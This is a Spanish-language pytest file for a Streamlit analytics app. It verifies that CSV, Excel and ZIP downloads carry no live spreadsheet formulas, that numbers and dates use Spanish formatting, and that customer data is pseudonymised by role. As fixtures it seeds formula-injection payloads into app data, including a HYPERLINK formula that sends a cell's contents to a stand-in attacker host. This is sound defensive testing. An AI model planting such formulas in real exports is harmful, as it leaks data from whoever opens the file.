"""Toda descarga de la aplicación, sin fórmulas vivas aunque agentes, temas, etapas y comentarios las traigan.

Se recorre cada página como administradora (que las ve todas) sobre una demostración con nombres
hostiles, se registra cada ``st.download_button`` que se dibuja (con datos fijos o diferidos) y se
abre cada archivo: ninguna celda de un CSV o de un Excel (también dentro de un ZIP) puede empezar
como fórmula. Las tablas en pantalla no tienen botón propio de descarga (``client.disableDataExport``).
Sobre la demostración sin nombres hostiles, cada descarga lleva además números y fechas a la manera
española: nada de «2026-10-31», «0.80», «36,76470588» ni cifras guardadas como texto en un Excel.
"""

import csv
import io
import re
import tomllib
import zipfile
from functools import partial

import duckdb
import openpyxl
import pytest
import streamlit as st
from streamlit.elements.widgets.button import ButtonMixin

from datos.cuentas.exportar import PREFIJOS_PELIGROSOS
from paginas.sesion import PAGINAS
from tests import RAIZ
from tests.apptest import abrir, abrir_pestana, recorrer_pestanas, sin_errores

FORMULA = '=HYPERLINK("http://malo.example/?d="&A1,"Ver")'
#: Un número escrito a la española en un CSV (``-3``, ``-1.234,5``): empieza por ``-`` sin ser fórmula.
_NUMERO = re.compile(r"^[-+]?\d[\d.]*(,\d+)?$")


@pytest.fixture
def hostil(base_demo, tmp_path):
    """La demostración con una etapa, un agente, un tema de capacitación, comentarios, un auditor, un
    segmento y una entrada de la bitácora que empiezan como fórmula; y un CSV con errores que lo citan."""
    con = duckdb.connect(str(base_demo))
    etapa = con.execute("SELECT etapa FROM etapas ORDER BY orden LIMIT 1").fetchall()[0][0]
    for sql, parametros in [
        ("UPDATE etapas SET etapa = ? WHERE etapa = ?", ["=" + etapa, etapa]),
        ("UPDATE encuesta_etapas SET etapa = ? WHERE etapa = ?", ["=" + etapa, etapa]),
        ("UPDATE agentes SET nombre = ? WHERE agente_id IN ('AGE-001', 'AGE-008')", [FORMULA]),
        ("UPDATE temas_capacitacion SET tema = '=1+2' WHERE competencia = 'escucha'", []),
        ("UPDATE encuestas SET comentario = '@SUMA(1+1) ' || comentario WHERE comentario IS NOT NULL", []),
        ("UPDATE auditorias SET auditor = '-' || auditor, comentario = '+' || comentario", []),
        ("UPDATE clientes SET segmento = '=' || segmento", []),
        ("INSERT INTO bitacora (usuario, accion, detalle) VALUES ('=malo', 'entrar', ?)", [FORMULA]),
    ]:
        con.execute(sql, parametros)
    con.close()
    errores = tmp_path / "encuestas_con_errores.csv"
    errores.write_text(f"fecha;nps;comentario\n01/10/2026;{FORMULA};bien\n02/10/2026;9;=1+2\n", encoding="utf-8")
    return errores


@pytest.fixture
def descargas(monkeypatch):
    """Lista que se llena con (etiqueta, nombre de archivo, datos) de cada ``st.download_button`` dibujado."""
    registradas = []
    original = ButtonMixin.download_button

    def grabar(self, label, data, *args, **kwargs):
        registradas.append((label, kwargs.get("file_name"), data))
        return original(self, label, data, *args, **kwargs)

    monkeypatch.setattr(ButtonMixin, "download_button", grabar)
    monkeypatch.setattr(st, "download_button", partial(grabar, st._main))
    return registradas


def _celdas_vivas(nombre: str, contenido: bytes) -> list[str]:
    """Las celdas de ``contenido`` (CSV, .xlsx o ZIP de ellos) que una hoja de cálculo ejecutaría."""
    if contenido.startswith(b"PK"):
        comprimido = zipfile.ZipFile(io.BytesIO(contenido))
        if "[Content_Types].xml" in comprimido.namelist():
            libro = openpyxl.load_workbook(io.BytesIO(contenido))
            return [f"{nombre}!{hoja.title}!{c.coordinate}: {c.value}" for hoja in libro.worksheets
                    for fila in hoja.iter_rows() for c in fila
                    if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(PREFIJOS_PELIGROSOS))]
        return [v for miembro in comprimido.namelist() for v in _celdas_vivas(miembro, comprimido.read(miembro))]
    if not nombre.endswith(".csv"):
        return []  # HTML: ``informes.a_html`` escapa cada texto (tests/analisis/test_informes.py)
    filas = csv.reader(io.StringIO(contenido.decode("utf-8-sig")), delimiter=";")
    return [f"{nombre}: {v}" for fila in filas for v in fila
            if v.startswith(PREFIJOS_PELIGROSOS) and not _NUMERO.match(v)]


def _bytes(datos) -> bytes:
    """Lo que entrega un botón de descarga: sus datos o, si son diferidos, lo que produce al pulsarlo."""
    datos = datos() if callable(datos) else datos
    return datos.encode("utf-8") if isinstance(datos, str) else bytes(datos)


def _recorrer(at, pasos) -> None:
    """Aplica cada paso (una función que toca un widget de ``at``) y vuelve a ejecutar la página.

    Solo se exige que no haya excepciones: el archivo con errores de la página de carga los muestra.
    """
    for paso in pasos:
        paso(at)
        at.run()
        assert not at.exception, [e.value for e in at.exception]


#: Lo que se toca en cada página para que aparezcan todas sus descargas (además de abrirla).
PASOS = {
    "paginas/realimentacion.py": [lambda at: at.segmented_control(key="realimentacion_tipo").set_value("Un agente"),
                                  lambda at: at.selectbox(key="realimentacion_agente").select("AGE-008")],
    "paginas/carga.py": [lambda at: at.selectbox(key="plantilla_tipo").select("auditorias"),
                         lambda at: next(b for b in at.button if b.label == "Validar el archivo").click()],
}


#: ``PASOS`` sin el archivo con errores de «Cargar datos» (su informe es texto y enteros, escrito por DuckDB).
PASOS_SIN_ARCHIVO = {archivo: pasos for archivo, pasos in PASOS.items() if archivo != "paginas/carga.py"}


def test_ninguna_descarga_lleva_formulas_vivas(hostil, descargas, monkeypatch):
    monkeypatch.setattr(st, "file_uploader",  # el archivo hostil va a «Cargar datos»; los demás cargadores, vacíos
                        lambda etiqueta, *a, **k: _Subido(hostil) if etiqueta.startswith("CSV") else None)
    vistas = {}
    for pagina in PAGINAS:
        inicio = len(descargas)
        at = abrir(pagina.archivo)
        sin_errores(at)
        _recorrer(at, PASOS.get(pagina.archivo, []))
        for _ in recorrer_pestanas(at):  # las descargas de las pestañas perezosas (paginas.pestanas)
            sin_errores(at)
        vistas[pagina.archivo] = descargas[inicio:]
    nombres = {nombre for registradas in vistas.values() for _, nombre, _ in registradas}
    # Las descargas que el issue 16 encontró sin neutralizar están entre las revisadas.
    assert {"plantilla_encuestas.csv", "plantilla_encuestas.xlsx", "plantilla_auditorias.xlsx",
            "errores_encuestas_con_errores.csv", "informes_de_equipos.zip"} <= nombres
    assert "informe_hyperlink_http_malo_example_d_a1_ver_age_008.xlsx" in nombres  # el agente de nombre hostil
    con_descargas = {p for p, registradas in vistas.items() if registradas}
    assert con_descargas == {"paginas/carga.py", "paginas/realimentacion.py", "paginas/tendencias.py",
                             "paginas/perfiles.py", "paginas/comentarios.py", "paginas/administracion.py",
                             "paginas/organizacion.py"}
    vivas = [celda for registradas in vistas.values() for _, nombre, datos in registradas
             for celda in _celdas_vivas(nombre, _bytes(datos))]
    assert vivas == []


#: Lo que un CSV o Excel en español no lleva: fechas ISO, punto decimal, más de 3 decimales (4 en un valor p).
FECHA_ISO = re.compile(r"^\d{4}-\d{2}-\d{2}")
PUNTO_DECIMAL = re.compile(r"^[-+]?\d+\.\d+$")
DECIMALES_DE_MAS = re.compile(r"^[-+]?\d+,\d{4,}$")
#: Un número guardado como texto en un Excel («225», «85,7 %», «+5,2 pts»).
CIFRA_COMO_TEXTO = re.compile(r"^[-+]?\d[\d.]*(,\d+)?( ?%| pts)?$")


def _decimales_permitidos(encabezado: str) -> int:
    """Decimales que admite una columna: 4 para un valor p, 3 para las demás."""
    return 4 if "valor p" in str(encabezado).lower() else 3


def _celdas_sin_formato_csv(nombre: str, contenido: bytes) -> list[str]:
    """Celdas de un CSV con fecha ISO, punto decimal o decimales de más."""
    filas = list(csv.reader(io.StringIO(contenido.decode("utf-8-sig")), delimiter=";"))
    if not filas:
        return []
    malas = []
    for fila in filas[1:]:
        for encabezado, v in zip(filas[0], fila):
            decimales = re.match(r"^[-+]?\d+,(\d+)$", v)
            if FECHA_ISO.match(v) or PUNTO_DECIMAL.match(v) or (
                    decimales and len(decimales.group(1)) > _decimales_permitidos(encabezado)):
                malas.append(f"{nombre}: {encabezado} = {v}")
    return malas


def _celdas_sin_formato_excel(nombre: str, contenido: bytes) -> list[str]:
    """Celdas de un .xlsx con números guardados como texto, decimales de más o fechas con formato ISO."""
    libro = openpyxl.load_workbook(io.BytesIO(contenido))
    malas = []
    for hoja in libro.worksheets:
        encabezados = {c.column: c.value for c in hoja[1]}
        for fila in hoja.iter_rows(min_row=2):
            for c in fila:
                encabezado = encabezados.get(c.column, "")
                redondeado = isinstance(c.value, float) and round(c.value, _decimales_permitidos(encabezado)) == c.value
                if (isinstance(c.value, float) and not redondeado and c.number_format == "General") or (
                        isinstance(c.value, str) and c.column > 1 and CIFRA_COMO_TEXTO.match(c.value.strip())) or (
                        c.is_date and "YYYY-MM" in c.number_format.upper()):
                    malas.append(f"{nombre}!{hoja.title}!{c.coordinate}: {c.value!r} ({c.number_format})")
    return malas


def _sin_formato(nombre: str, contenido: bytes) -> list[str]:
    """Las celdas de ``contenido`` (CSV, .xlsx o ZIP de ellos) que no están a la manera española."""
    if contenido.startswith(b"PK"):
        comprimido = zipfile.ZipFile(io.BytesIO(contenido))
        if "[Content_Types].xml" in comprimido.namelist():
            return _celdas_sin_formato_excel(nombre, contenido)
        return [v for miembro in comprimido.namelist() for v in _sin_formato(miembro, comprimido.read(miembro))]
    return _celdas_sin_formato_csv(nombre, contenido) if nombre.endswith(".csv") else []


def test_las_descargas_llevan_numeros_y_fechas_a_la_espanola(base_demo, descargas):
    for pagina in PAGINAS:
        at = abrir(pagina.archivo)
        sin_errores(at)
        _recorrer(at, PASOS_SIN_ARCHIVO.get(pagina.archivo, []))
    nombres = {nombre for _, nombre, _ in descargas}
    assert {"serie_nps_semana.csv", "serie_nps_semana.xlsx", "cambios_nps.csv", "detalle.csv",
            "informe_equipo_andes.xlsx", "informes_de_equipos.zip"} <= nombres, nombres
    malas = [celda for _, nombre, datos in descargas for celda in _sin_formato(nombre, _bytes(datos))]
    assert malas == [], "\n".join(malas)


def test_las_tablas_no_tienen_descarga_propia():
    configuracion = tomllib.loads((RAIZ / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert configuracion["client"]["disableDataExport"] is True


class _Subido:
    """Lo mínimo de un ``UploadedFile`` de Streamlit que usa la página de carga."""

    def __init__(self, ruta):
        self.name, self.file_id, self._datos = ruta.name, "hostil-1", ruta.read_bytes()

    def getbuffer(self):
        return memoryview(self._datos)


def test_los_clientes_de_perfiles_se_descargan_con_el_rol_de_quien_los_pide(base_demo, descargas):
    """La tabla de clientes de «Perfiles» se prepara al pulsar, fuera de la ejecución de la página: lleva
    seudónimos para Dirección e identificadores reales para Calidad, como la tabla en pantalla."""
    from datos.cuentas.usuarios import Usuario  # noqa: PLC0415

    for cuenta, ve_identidades in ((Usuario("dire", "Dirección", "dirección"), False),
                                   (Usuario("cali", "Calidad", "calidad"), True)):
        inicio = len(descargas)
        at = abrir_pestana(abrir("paginas/perfiles.py", usuario=cuenta), "Clientes")
        sin_errores(at)
        archivo = next(datos for _, nombre, datos in descargas[inicio:] if nombre == "clientes_perfil.csv")
        filas = list(csv.reader(io.StringIO(_bytes(archivo).decode("utf-8-sig")), delimiter=";"))
        clientes = [fila[0] for fila in filas[1:]]
        assert filas[0][0] == "Cliente" and len(clientes) > 100
        assert all(c.startswith("CLI-") for c in clientes) == ve_identidades
        assert all(c.startswith("Cliente ") for c in clientes) != ve_identidades
